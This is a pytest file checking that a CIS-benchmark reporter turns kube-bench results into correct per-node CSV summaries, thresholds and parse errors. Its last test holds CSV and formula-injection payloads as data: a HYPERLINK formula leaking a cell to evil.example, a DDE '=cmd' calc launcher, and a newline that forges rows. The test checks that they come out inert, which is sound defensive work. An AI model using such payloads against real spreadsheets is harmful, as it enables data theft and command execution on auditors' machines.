"""kube-bench results posted per node, and cis-benchmark reports worked out by hand, on both engines."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from typing import Any

import orjson
import pytest

from margay.app import Margay
from margay.clock import FakeClock
from margay.config import Settings
from margay.errors import ParseError
from margay.reports import cis, reporter

START = datetime(2026, 12, 1, tzinfo=UTC)
END = START + timedelta(days=1)


def kube_bench(results: list[tuple[str, str, bool]]) -> bytes:
    """kube-bench --json output: one control, section 1.1, tests (number, status, scored)."""
    return orjson.dumps({"Controls": [{"id": "1", "version": "cis-1.6", "text": "Control Plane", "node_type": "master",
                                       "tests": [{"section": "1.1", "desc": "Config files", "results": [
                                           {"test_number": n, "test_desc": f"Check {n}", "remediation": f"fix {n}",
                                            "status": st, "scored": sc} for n, st, sc in results]}]}]})


NODES = [
    ("node-a", "v1.30.2", START + timedelta(hours=1),
     [("1.1.1", "PASS", True), ("1.1.2", "PASS", True), ("1.1.3", "PASS", True), ("1.1.4", "PASS", True),
      ("1.1.5", "WARN", False)]),
    ("node-b", "v1.30.2", START + timedelta(hours=1), [("1.1.1", "PASS", True)]),  # superseded below
    ("node-b", "v1.30.2", START + timedelta(hours=5),
     [("1.1.1", "PASS", True), ("1.1.2", "PASS", True), ("1.1.3", "FAIL", True), ("1.1.4", "WARN", True)]),
    ("node-c", "v1.29.0", START + timedelta(hours=2),
     [("1.1.1", "PASS", True), ("1.1.2", "PASS", True), ("1.1.3", "PASS", True), ("1.1.4", "FAIL", True)]),
    ("node-d", "v1.29.0", START - timedelta(hours=2), [("1.1.1", "FAIL", True)]),  # before the interval
]


@pytest.fixture(scope="module")
def benched(module_engine: dict[str, Any], tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
    m = Margay(Settings(data_dir=tmp_path_factory.mktemp("cis"), **module_engine), clock=FakeClock(START))
    docs = [cis.from_kube_bench(kube_bench(r), node, version, at) for node, version, at, r in NODES]
    cis.store(m.backend, "c1", docs, END)
    yield m.backend
    m.close()


def report(name: str, params: dict[str, Any] | None = None) -> dict[str, Any]:
    spec: dict[str, Any] = {"reportType": "cis-benchmark", "schedule": "0 0 * * *"}
    if params is not None:
        spec["cis"] = params
    return {"kind": "GlobalReport", "metadata": {"name": name}, "spec": spec}


def test_default_thresholds(benched: Any) -> None:
    reporter.run(benched, "c1", report("cis"), START, END, END)
    files = reporter.downloads(reporter.stored(benched, "c1", "cis", END))
    assert files["total-summary.csv"] == (
        "startTime,endTime,type,hiPercentThreshold,medPercentThreshold,hiNodeCount,medNodeCount,lowNodeCount\n"
        "2026-12-01T00:00:00Z,2026-12-02T00:00:00Z,kube,100,50,1,1,1")
    # node-a 4/4 scored pass: HIGH; node-b (its newer run) 2/4 = 50%, not above 50: LOW; node-c 3/4: MED
    assert files["node-summary.csv"] == (
        "node,version,status,testsPassing,testsFailing,testsUnknown,testsTotal\n"
        "node-a,v1.30.2,HIGH,4,0,0,4\nnode-b,v1.30.2,LOW,2,1,1,4\nnode-c,v1.29.0,MED,3,1,0,4\n\n")
    assert files["failed-tests.csv"] == (
        "nodeName,testIndex,testDescription,status,scored,remediation\n"
        'node-b,1.1.3,Check 1.1.3,FAIL,true,"fix 1.1.3"\nnode-c,1.1.4,Check 1.1.4,FAIL,true,"fix 1.1.4"\n\n')
    assert files["all-tests.csv"].splitlines()[1:6] == [
        'node-a,1.1.1,Check 1.1.1,PASS,true,"fix 1.1.1"', 'node-a,1.1.2,Check 1.1.2,PASS,true,"fix 1.1.2"',
        'node-a,1.1.3,Check 1.1.3,PASS,true,"fix 1.1.3"', 'node-a,1.1.4,Check 1.1.4,PASS,true,"fix 1.1.4"',
        'node-b,1.1.1,Check 1.1.1,PASS,true,"fix 1.1.1"']
    assert files["all-tests.csv"].count("\n") == 1 + 12 + 1  # header, 4 + 4 + 4 scored tests, the final line


def test_own_thresholds_and_unscored_tests(benched: Any) -> None:
    reporter.run(benched, "c1", report("cis-loose", {"highThreshold": 75, "medThreshold": 40,
                                                     "includeUnscoredTests": True}), START, END, END)
    files = reporter.downloads(reporter.stored(benched, "c1", "cis-loose", END))
    # node-a 4/5 = 80%: HIGH; node-b 50% > 40: MED; node-c 75% >= 75: HIGH
    assert files["node-summary.csv"].splitlines()[1:4] == [
        "node-a,v1.30.2,HIGH,4,0,1,5", "node-b,v1.30.2,MED,2,1,1,4", "node-c,v1.29.0,HIGH,3,1,0,4"]
    assert files["total-summary.csv"].endswith(",kube,75,40,2,1,0")


def test_bad_thresholds_name_the_field(benched: Any) -> None:
    with pytest.raises(ParseError, match=r"spec\.cis\.highThreshold: expected a percentage"):
        reporter.run(benched, "c1", report("bad", {"highThreshold": 300}), START, END, END)


@pytest.mark.parametrize(("data", "field"), [
    (b"{", "kube-bench.json: not JSON"),
    (b'{"Controls": []}', r"kube-bench.json\.Controls: expected a non-empty list"),
    (b'{"Controls": [{"tests": {}}]}', r"Controls\[0\]\.tests: expected a list"),
    (b'{"Controls": [{"tests": [{"section": "1.1", "results": [{"test_number": "1.1.1", "status": "OK"}]}]}]}',
     r"Controls\[0\]\.tests\[0\]\.results\[0\]\.status: expected PASS, FAIL, WARN or INFO, got 'OK'"),
    (b'{"Controls": [{"tests": [{"section": "1.1", "results": [{"status": "PASS"}]}]}]}',
     r"results\[0\]\.test_number"),
    (b'{"Controls": [{"tests": [{"results": []}]}]}', r"tests\[0\]\.section"),
])
def test_malformed_kube_bench_names_the_field(data: bytes, field: str) -> None:
    with pytest.raises(ParseError, match=field):
        cis.from_kube_bench(data, "n1", "v1.30.2", START, "kube-bench.json")


# What a cluster's writer token can put in a benchmark result (/tmp/review19/repro_cis_csv.py): a formula at a
# cell start, commas, quotes and newlines that would forge rows of the auditor's CSV.
HOSTILE_NODE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
HOSTILE_DESC = 'desc\nnode-forged,4.1.9,forged row,PASS,true,"ok'
HOSTILE_INFO = 'chmod 644 x", =cmd|\' /C calc\'!A0, "'


def test_hostile_values_are_inert_single_rows(benched: Any) -> None:
    doc = {"version": "cis-1.6", "kubernetesVersion": "+v1.30", "type": "kube", "node_name": HOSTILE_NODE,
           "timestamp": (START + timedelta(hours=1)).strftime("%Y-%m-%dT%H:%M:%S.000000Z"),
           "tests": [{"section": "4.1", "section_desc": "s", "test_number": "@4.1.1", "test_desc": HOSTILE_DESC,
                      "test_info": HOSTILE_INFO, "status": "FAIL", "scored": True}]}
    cis.store(benched, "evil", [doc], END)
    reporter.run(benched, "evil", report("cis"), START, END, END)
    files = reporter.downloads(reporter.stored(benched, "evil", "cis", END))
    for name in ("failed-tests.csv", "all-tests.csv"):
        rows = list(csv.reader(io.StringIO(files[name])))
        assert rows == [["nodeName", "testIndex", "testDescription", "status", "scored", "remediation"],
                        ["'" + HOSTILE_NODE, "'@4.1.1", HOSTILE_DESC, "FAIL", "true", HOSTILE_INFO], []], name
    rows = list(csv.reader(io.StringIO(files["node-summary.csv"])))
    assert rows == [["node", "version", "status", "testsPassing", "testsFailing", "testsUnknown", "testsTotal"],
                    ["'" + HOSTILE_NODE, "'+v1.30", "LOW", "0", "1", "0", "1"], []]
    # The remediation column stays quoted as Calico's template writes it, the quotes inside doubled.
    assert files["failed-tests.csv"].endswith(',FAIL,true,"chmod 644 x"", =cmd|\' /C calc\'!A0, """\n\n')
